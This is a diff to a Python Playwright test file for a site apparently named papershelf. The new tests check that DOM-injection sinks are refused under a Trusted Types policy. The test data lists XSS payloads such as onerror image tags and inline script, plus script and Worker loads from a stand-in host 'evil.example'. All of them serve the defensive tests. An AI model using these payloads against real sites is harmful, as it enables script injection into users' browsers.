@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import re
 from collections.abc import Callable
-from pathlib import Path
 from typing import Any
 
 import pytest
@@ -139,26 +138,65 @@ def test_text_is_not_evaluated(opened: Page, shelf: SiteServer) -> None:
     assert opened.evaluate("window.pwned") is None
 
 
-def test_none_of_our_scripts_gives_untrusted_text_to_the_browser(
-    opened: Page, shelf: SiteServer
+@pytest.mark.parametrize(
+    "sink",
+    [
+        "document.body.innerHTML = '<img src=x onerror=window.pwned=1>'",
+        "document.body.innerHTML = '<p id=x>text</p>'",
+        """document.body.innerHTML = '<p class="x" onclick="x">text</p>'""",
+        "document.body.insertAdjacentHTML('beforeend', '<b>bold</b>')",
+        "document.body.setHTMLUnsafe('<b>bold</b>')",
+        "document.createRange().createContextualFragment('<script>window.pwned=1</script>')",
+        "document.write('<b>bold</b>')",
+        "document.createElement('iframe').srcdoc = '<b>bold</b>'",
+        "document.createElement('script').src = 'https://evil.example/x.js'",
+        "document.createElement('script').src = '//evil.example/x.js'",
+        "document.createElement('script').src = 'data:text/javascript,window.pwned=1'",
+        "document.createElement('script').textContent = 'window.pwned=1'",
+        "new Worker('https://evil.example/x.js')",
+        "new Worker('blob:https://evil.example/x')",
+        "setTimeout('window.pwned=1')",
+        "eval('window.pwned=1')",
+        "trustedTypes.createPolicy('another', {createHTML: String})",
+        "trustedTypes.createPolicy('default', {createHTML: String})",
+    ],
+)
+@pytest.mark.parametrize("path", ["", "search/?q=autism"])
+def test_no_script_makes_html_or_scripts_of_a_text(
+    opened: Page, shelf: SiteServer, path: str, sink: str
 ) -> None:
-    """Under a policy of trusted types, only Material's scripts would be refused."""
-    changed(
-        opened,
-        lambda html: html,
-        content_security_policy_report_only=(
-            "require-trusted-types-for 'script'; trusted-types papershelf papershelf-worker"
-        ),
+    """Even a fault in a script of the site makes no element of a record's text."""
+    opened.goto(shelf.url + path)
+    # In a task of its own: a browser lets what a debugger evaluates do more.
+    refused = opened.evaluate(
+        f"""() => new Promise((resolve) => setTimeout(async () => {{
+            try {{
+                await (() => {{ return {sink}; }})();
+                resolve(null);
+            }} catch (error) {{
+                resolve(error.name);
+            }}
+        }}))"""
     )
-    found: list[dict[str, str]] = []
-    use(opened, shelf)
-    found += violations(opened)
-    for path in VISITED:
-        opened.goto(shelf.url + path, wait_until="networkidle")
-        if path == "":
-            opened.locator("input[data-papershelf-suggest]").first.fill("sle")
-            expect(opened.locator("[role=option]").first).to_be_visible()
-        found += violations(opened)
-    sources = {Path(one["sourceFile"]).name.partition(".")[0] for one in found}
-    # That it is named shows that violations are counted.
-    assert sources == {"bundle"}
+    assert refused in ("TypeError", "EvalError"), sink
+    assert opened.evaluate("window.pwned") is None
+
+
+def test_marked_text_of_a_list_of_results_is_let_through(opened: Page, shelf: SiteServer) -> None:
+    """Material's script makes the list of its search box of HTML."""
+    opened.goto(shelf.url)
+    opened.evaluate("document.querySelector('main').innerHTML = '<p>R&D, a > <mark>b</mark></p>'")
+    expect(opened.locator("main > p")).to_have_text("R&D, a > b")
+
+
+def test_what_is_parsed_to_be_read_runs_nothing(opened: Page, shelf: SiteServer) -> None:
+    opened.goto(shelf.url)
+    opened.evaluate(
+        """() => {
+            const text = "<img src=x onerror=window.pwned=1><script>window.pwned=1</script>";
+            const read = new DOMParser().parseFromString(text, "text/html");
+            document.body.append(...document.adoptNode(read.body).childNodes);
+        }"""
+    )
+    wait_until(opened, "window.violations.length > 0")
+    assert opened.evaluate("window.pwned") is None
